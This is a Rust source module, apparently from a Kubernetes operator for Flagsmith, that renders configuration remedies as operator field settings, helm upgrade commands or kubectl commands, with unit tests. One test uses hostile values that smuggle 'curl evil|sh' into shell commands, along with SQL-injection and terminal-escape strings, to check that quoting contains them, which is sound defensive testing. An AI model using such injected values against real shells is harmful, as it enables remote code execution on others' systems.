//! How the owner of an installation changes it, so that a remedy is something that he can type: a field of the
//! `FlagsmithDeployment`, a value of the official chart, or a kubectl command. Rules say what to change, never how.

mod change;
mod helm;
mod kubectl;
mod phrase;
mod resource;
mod spelling;

use std::fmt::Write as _;

pub use change::Change;
use change::key;

use crate::{
    api::RETRY_MIGRATION_ANNOTATION,
    model::{Component, shell},
    validate::identity::Identity,
};

/// What the owner of an installation changes it with.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub enum ManagedBy {
    /// The `FlagsmithDeployment`, which the operator turns into objects.
    #[default]
    Operator,
    /// A release of the official chart (flagsmith/flagsmith; values as of charts 0.81.0 and 0.82.0).
    Helm {
        /// The name of the release.
        release: String,
        /// The version of the chart, so that a change of one value changes nothing else.
        chart: Option<String>,
        /// Its namespace.
        namespace: String,
    },
    /// Manifests that somebody wrote.
    Manifests {
        /// The namespace.
        namespace: String,
        /// The Deployments of API, task processor and frontend.
        deployments: [Option<String>; 3],
    },
}

impl ManagedBy {
    /// The changes as one command, or as a phrase that names fields of the `FlagsmithDeployment`.
    #[must_use]
    pub fn change(&self, changes: &[Change<'_>]) -> String {
        match self {
            Self::Operator => {
                let mut fields: Vec<String> = changes.iter().map(resource::field).collect();
                fields.dedup();
                format!("Set {}", fields.join(" and "))
            }
            Self::Helm { release, chart, namespace } => {
                let values: Vec<String> = changes.iter().map(helm::value).collect();
                let mut command =
                    format!("helm upgrade {release} flagsmith/flagsmith --namespace {namespace}");
                if let Some(chart) = chart {
                    let _ = write!(command, " --version {chart}");
                }
                // --reuse-values keeps what the release has set, also where null is to take it away, and
                // --reset-then-reuse-values brings the chart's default back (Helm 3.19.5, held by tests/chart/remedies).
                if values.iter().any(|value| helm::unsets(value)) {
                    command = format!(
                        "helm get values {release} --namespace {namespace} --output yaml | {command} --values -"
                    );
                } else {
                    command.push_str(" --reuse-values");
                }
                for value in values {
                    let _ = write!(command, " {value}");
                }
                // Helm adds what its manifest has and keeps the value that somebody else has set: a variable with
                // both is refused.
                for change in changes {
                    if let Change::SameAsApi { deployment, variable, .. } = change {
                        command = format!(
                            "kubectl -n {namespace} set env deployment/{deployment} {variable}- && {command}"
                        );
                    }
                }
                command
            }
            Self::Manifests { namespace, deployments } => {
                let commands: Vec<String> =
                    changes.iter().map(|change| kubectl::command(change, namespace, deployments)).collect();
                commands.join(" && ")
            }
        }
    }

    /// Whether a release is started only when the operator has migrated to it.
    #[must_use]
    pub const fn migrates_first(&self) -> bool {
        self.is_operator()
    }

    /// The command that runs a migration Job, or the backup before it, once more.
    #[must_use]
    pub fn run_job_again(&self, installation: &Identity, job: &str) -> String {
        let namespace = shell::name(&installation.namespace, "NAMESPACE");
        match self {
            Self::Operator => format!(
                "kubectl -n {namespace} annotate fsd {} {RETRY_MIGRATION_ANNOTATION}=\"$(date +%s)\" --overwrite",
                shell::name(&installation.name, "NAME")
            ),
            Self::Helm { .. } | Self::Manifests { .. } => format!(
                "kubectl -n {namespace} get job {} -o json | jq 'del(.spec.selector, .spec.template.metadata.labels, \
                 .status, .metadata.uid, .metadata.resourceVersion) | .metadata.name += \"-again\"' | kubectl create -f -",
                shell::name(job, "NAME")
            ),
        }
    }

    /// What is so for an installation that the operator makes, or for one that somebody else makes.
    pub fn by_owner<T>(&self, operator: impl FnOnce() -> T, other: impl FnOnce() -> T) -> T {
        match self {
            Self::Operator => operator(),
            Self::Helm { .. } | Self::Manifests { .. } => other(),
        }
    }

    /// A field of the specification with its value, where there is one, or else another way.
    pub fn field_or(&self, field: &str, otherwise: impl FnOnce() -> String) -> String {
        self.by_owner(|| format!("Set {field}"), otherwise)
    }

    /// By which name its owner sets a variable of a component; `None` where the operator decides it.
    #[must_use]
    pub fn setting(&self, component: Component, variable: &'static str) -> Option<&'static str> {
        match self {
            Self::Operator => {
                resource::own_field(variable).filter(|field| field.split('.').nth(1) == Some(key(component)))
            }
            Self::Helm { .. } | Self::Manifests { .. } => Some(variable),
        }
    }

    /// Where its owner says which proxy stands in front, and what its timeouts are; `entrance` is the field of the operator's.
    #[must_use]
    pub fn proxy(&self, entrance: &str) -> String {
        match self {
            Self::Operator => format!("{entrance}.proxy"),
            Self::Helm { .. } | Self::Manifests { .. } => {
                "spec.observe.proxy of a FlagsmithDeployment with mode Observed".to_owned()
            }
        }
    }

    /// Whether the operator itself makes the objects.
    #[must_use]
    pub const fn is_operator(&self) -> bool {
        matches!(self, Self::Operator)
    }
}

#[cfg(test)]
mod tests {
    use rstest::rstest;

    use super::*;
    use crate::{flagsmith::env, model::Component};

    const CHANGES: [Change<'static>; 2] =
        [Change::Replicas(Component::TaskProcessor, 1), Change::Env(Component::Api, "GUNICORN_WORKERS", "2")];

    #[rstest]
    #[case(ManagedBy::Operator, "Set spec.taskProcessor.replicas: 1 and spec.api.gunicorn.workers: 2")]
    #[case(
        ManagedBy::Helm { release: "acme".to_owned(), chart: Some("0.81.0".to_owned()), namespace: "prod".to_owned() },
        "helm upgrade acme flagsmith/flagsmith --namespace prod --version 0.81.0 --reuse-values --set taskProcessor.replicacount=1 --set-string 'api.extraEnv.GUNICORN_WORKERS=2'"
    )]
    #[case(
        ManagedBy::Manifests {
            namespace: "prod".to_owned(),
            deployments: [Some("web".to_owned()), Some("worker".to_owned()), None],
        },
        "kubectl -n prod scale deployment worker --replicas=1 && kubectl -n prod set env deployment/web GUNICORN_WORKERS='2'"
    )]
    fn says_the_same_in_each_tool(#[case] managed_by: ManagedBy, #[case] expected: &str) {
        assert_eq!(managed_by.change(&CHANGES), expected);
    }

    /// Values of variables, arguments and annotations were written by whoever may change those objects, and are pasted
    /// into the shell of whoever reads the remedy.
    #[rstest]
    fn a_hostile_value_stays_within_its_quotes(
        #[values("9'; curl evil|sh; echo '", "\"; DROP TABLE t; --", "a\u{1b}[2J\nb", "x;curl evil|sh")]
        value: &str,
    ) {
        let changes = [
            Change::Env(Component::Api, "GUNICORN_CMD_ARGS", value),
            Change::Start(Component::Api, &["start", "--name", value, "api"]),
            Change::Annotation {
                kind: "ingress",
                name: "flagsmith",
                values: Some("ingress.api.annotations"),
                key: "example.com/timeout",
                value,
            },
        ];
        let kubectl = ManagedBy::Manifests { namespace: "prod".to_owned(), deployments: [const { None }; 3] };
        for managed_by in [helm(), kubectl] {
            let command = managed_by.change(&changes);
            let outside: String = command.replace(r"'\''", "").split('\'').step_by(2).collect();
            assert!(!outside.contains("evil") && !outside.contains("DROP"), "{command}");
            assert!(!command.contains(char::is_control), "{command}");
        }
    }

    #[test]
    fn a_list_of_hosts_is_one_value_of_the_chart() {
        let command =
            helm().change(&[Change::Env(Component::Api, "DJANGO_ALLOWED_HOSTS", "a.example,b.example")]);
        assert!(
            command.ends_with(r"--set-string 'api.extraEnv.DJANGO_ALLOWED_HOSTS=a.example\,b.example'"),
            "{command}"
        );
    }

    #[test]
    fn the_migration_job_has_the_image_of_the_api() {
        let command = helm().change(&[Change::Tag(Component::Migrations, "2.265.0")]);
        assert!(command.ends_with("--set api.image.tag=2.265.0"), "{command}");
    }

    #[test]
    fn what_is_unset_is_unset_of_the_releases_own_values() {
        assert_eq!(
            helm().change(&[Change::LeaveReplicas(Component::Api)]),
            "helm get values acme --namespace prod --output yaml | helm upgrade acme flagsmith/flagsmith --namespace prod --values - --set api.replicacount=null"
        );
    }

    /// Chart 0.82.0 has a preStop of its own, which null among values that are reused would keep.
    #[test]
    fn what_is_unset_beside_a_value_is_unset_of_the_releases_own_values_too() {
        assert_eq!(
            helm().change(&[Change::PreStop(Component::Api, 10), Change::GracePeriod(Component::Api, 50)]),
            "helm get values acme --namespace prod --output yaml | helm upgrade acme flagsmith/flagsmith --namespace prod --values - \
             --set api.lifecycle.preStop.exec=null,api.lifecycle.preStop.sleep.seconds=10 --set api.terminationGracePeriodSeconds=50"
        );
    }

    #[rstest]
    #[case("a=null", true)]
    #[case("a=null,b=1", true)]
    #[case("a=1,b=null", true)]
    #[case("a=1 --set b=null", true)]
    #[case("a=null,b=1 --set c=2", true)]
    #[case("a=nullable,null=1", false)]
    fn a_null_is_seen_wherever_it_stands(#[case] settings: &str, #[case] expected: bool) {
        assert_eq!(helm::unsets(&format!("--set {settings}")), expected);
        assert!(!helm::unsets(&format!("--set-string '{settings}'")), "a variable may have the text null");
    }

    #[test]
    fn a_variable_that_helm_would_only_add_to_is_removed_first() {
        assert_eq!(
            helm().change(&[Change::SameAsApi { deployment: "worker", variable: "DATABASE_URL", key: None }]),
            "kubectl -n prod set env deployment/worker DATABASE_URL- && \
             helm get values acme --namespace prod --output yaml | helm upgrade acme flagsmith/flagsmith --namespace prod --values - --set taskProcessor.extraEnv.DATABASE_URL=null"
        );
    }

    #[test]
    fn a_variable_is_set_where_its_owner_sets_it() {
        let threads = [Change::Env(Component::TaskProcessor, env::TASK_PROCESSOR_NUM_THREADS, "10")];
        assert_eq!(ManagedBy::Operator.change(&threads), "Set spec.taskProcessor.threads: 10");
        let command = helm().change(&threads);
        assert!(command.ends_with("--set taskProcessor.numThreads=10"), "{command}");
        let unknown = [Change::Env(Component::Api, "ENVIRONMENT", "prod")];
        assert_eq!(
            ManagedBy::Operator.change(&unknown),
            "Set spec.api.env: [{name: ENVIRONMENT, value: \"prod\"}]"
        );
    }

    fn helm() -> ManagedBy {
        ManagedBy::Helm { release: "acme".to_owned(), chart: None, namespace: "prod".to_owned() }
    }
}
